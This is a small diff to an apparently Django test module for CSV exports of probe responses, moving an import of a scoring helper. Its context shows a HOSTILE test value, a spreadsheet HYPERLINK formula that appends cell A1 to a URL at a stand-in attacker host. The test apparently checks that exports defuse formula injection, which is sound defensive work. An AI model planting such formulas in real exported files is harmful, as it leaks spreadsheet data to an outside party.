@@ -14,8 +14,9 @@ from django.urls import reverse
 
 from probe.models import Response
 from scoring.exports import RESPONSE_COLUMNS, csv_text
+from tests.scoring.factories import score_all
 
-from .conftest import build, score_all
+from .conftest import build
 
 HOSTILE = {
     1: '=HYPERLINK("https://evil.example/?"&A1,"click")',
